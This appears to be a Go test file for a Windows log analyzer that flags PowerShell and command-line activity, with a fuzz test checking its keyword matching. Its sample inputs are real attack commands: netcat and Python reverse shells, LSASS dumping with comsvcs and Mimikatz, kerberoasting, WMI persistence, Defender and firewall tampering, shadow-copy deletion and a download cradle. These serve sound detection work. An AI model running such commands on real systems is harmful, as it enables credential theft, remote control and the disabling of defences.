package analyzers

import (
	"strings"
	"testing"
)

// block is a 4104 script block logged at Verbose level.
func block(id, text string) ev {
	return ev{provider: "Microsoft-Windows-PowerShell", eventID: 4104, level: 5, data: map[string]any{"ScriptBlockId": id,
		"MessageNumber": "1", "MessageTotal": "1", "ScriptBlockText": text}}
}

// classic800 is a Windows PowerShell 800 pipeline record of a command.
func classic800(command string) ev {
	return ev{provider: "PowerShell", eventID: 800, cmd: command, data: map[string]any{"CommandLine": command, "HostApplication": "powershell.exe"}}
}

func TestContentRules(t *testing.T) {
	runTable(t, []tableCase{
		{"nc.exe -e with no argument before it", []ev{security4688(cmd, expl, `cmd /c nc.exe -e cmd.exe 10.0.0.5 4444`)},
			"T1059.003", "high", "cmd.exe /c reverse-shell"},
		{"nc listing its help is quiet", []ev{security4688(cmd, expl, `cmd /c nc.exe -h`)}, "T1059.003", "", ""},
		{"comsvcs minidump", []ev{security4688(cmd, expl, `cmd /c rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\temp\l.dmp full`)},
			"T1059.003", "high", "cmd.exe /c credential-theft"},
		{"invoke-mimikatz block", []ev{block("b1", "Invoke-Mimikatz -DumpCreds")}, "T1059.001", "high", "PowerShell script block: credential-theft"},
		{"kerberoasting block", []ev{block("b2", "Add-Type -AssemblyName System.IdentityModel; New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList 'MSSQLSvc/db.corp:1433'")},
			"T1059.001", "high", "PowerShell script block: kerberoasting"},
		{"ad discovery block is low", []ev{block("b3", "Get-ADGroupMember 'Domain Admins'; [System.DirectoryServices.ActiveDirectory.Forest]::GetCurrentForest()")},
			"T1059.001", "low", "PowerShell script block: ad-discovery"},
		{"guest added to administrators", []ev{security4688(`C:\Windows\System32\net.exe`, cmd, `net  localgroup administrators guest /ADD`)},
			"T1059.003", "high", "cmd.exe ran net.exe: group-membership-change, local-discovery"},
		{"wmi event subscription created", []ev{block("b8", "$c = Set-WmiInstance -Namespace root/subscription -Class CommandLineEventConsumer -Arguments @{Name='u'; CommandLineTemplate='C:\\x.exe'}")},
			"T1059.001", "high", "PowerShell script block: wmi-persistence"},
		{"wmi consumer listed is quiet", []ev{block("b9", "Get-WmiObject -Namespace root/subscription -Class CommandLineEventConsumer | Select Name")},
			"T1059.001", "", ""},
		{"local group discovery", []ev{block("b4", "Get-LocalGroupMember -Group Administrators")}, "T1059.001", "low", "PowerShell script block: local-discovery"},
		{"service image path persistence", []ev{block("b5", `Set-ItemProperty -Path 'HKLM:\SYSTEM\CurrentControlSet\Services\upd' -Name ImagePath -Value 'C:\ProgramData\u.exe'`)},
			"T1059.001", "medium", "PowerShell script block: service-persistence"},
		{"new-service", []ev{block("b6", `New-Service -Name upd -BinaryPathName 'C:\ProgramData\u.exe'`)}, "T1059.001", "medium", "PowerShell script block: service-persistence"},
		{"openssh server install", []ev{block("b7", `Add-WindowsCapability -Online -Name OpenSSH.Server~~~~0.0.1.0`)},
			"T1059.001", "medium", "PowerShell script block: remote-access-install"},
		{"defender exclusion through Set-MpPreference (800)", []ev{classic800(`Set-MpPreference -ExclusionPath c:\document\virus\`)},
			"T1059.001", "high", "PowerShell security-tool-tampering"},
		{"defender feature disabled by value", []ev{security4688(ps, cmd, `powershell.exe -command "Set-MpPreference -PUAProtection disable"`)},
			"T1059.001", "high", "PowerShell security-tool-tampering"},
		{"defender scan settings kept", []ev{security4688(ps, cmd, `powershell.exe -command "Set-MpPreference -ScanScheduleDay 2"`)}, "T1059.001", "", ""},
		{"netsh firewall off, abbreviated", []ev{security4688(`C:\Windows\System32\netsh.exe`, cmd, `netsh  a s p state off`)},
			"T1059.003", "high", "cmd.exe ran netsh.exe: firewall-disable"},
		{"netsh firewall rule added is quiet", []ev{security4688(`C:\Windows\System32\netsh.exe`, cmd, `netsh advfirewall firewall add rule name=web dir=in action=allow protocol=TCP localport=443`)},
			"T1059.003", "", ""},
		{"service display names into a file", []ev{security4688(ps, cmd, `powershell -command "Get-Service "seg99" | select -Expand DisplayName |out-file -append tmp_payload.txt"`)},
			"T1059.001", "medium", "PowerShell payload-reassembly"},
		{"curl in a command line", []ev{security4688(cmd, expl, `cmd /c curl http://10.0.0.5/a.exe`)}, "T1059.003", "medium", "cmd.exe /c download"},
		{"python reverse shell", []ev{security4688(`C:\Python39\python.exe`, cmd, `python -c "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(('10.0.0.1',1234));os.dup2(s.fileno(),0)"`)},
			"T1059.006", "high", "python.exe reverse-shell"},
	})
}

// matchContentEach is matchContent as it was, a search per keyword over
// the text lowered: the reference the automaton's pass must agree with.
func matchContentEach(text string) []contentMatch {
	var out []contentMatch
	lower := strings.ToLower(text)
	for i := range contentRules {
		if !containsAny(lower, contentRules[i].keywords) {
			continue
		}
		if m := contentRules[i].re.FindString(text); m != "" {
			out = append(out, contentMatch{&contentRules[i], m})
		}
	}
	return out
}

// FuzzMatchContent: the content rules tried after one pass of the
// keywords' automaton match what trying each rule's keywords in turn
// matched, on any text (letters that lower to ASCII ones included).
func FuzzMatchContent(f *testing.F) {
	for _, seed := range []string{"Invoke-\u212Aerberoast", "SEKURLSA::logonpasswords", "net user x /add", "İnvoke-Mimikatz",
		"vssadmin delete shadows /all", "IEX (New-Object Net.WebClient).DownloadString('http://x')", ""} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, text string) {
		got, want := matchContent(text), matchContentEach(text)
		if len(got) != len(want) {
			t.Fatalf("%q: %d matches, want %d", text, len(got), len(want))
		}
		for i := range got {
			if got[i] != want[i] {
				t.Fatalf("%q: match %d is %s %q, want %s %q", text, i, got[i].rule.name, got[i].matched, want[i].rule.name, want[i].matched)
			}
		}
	})
}
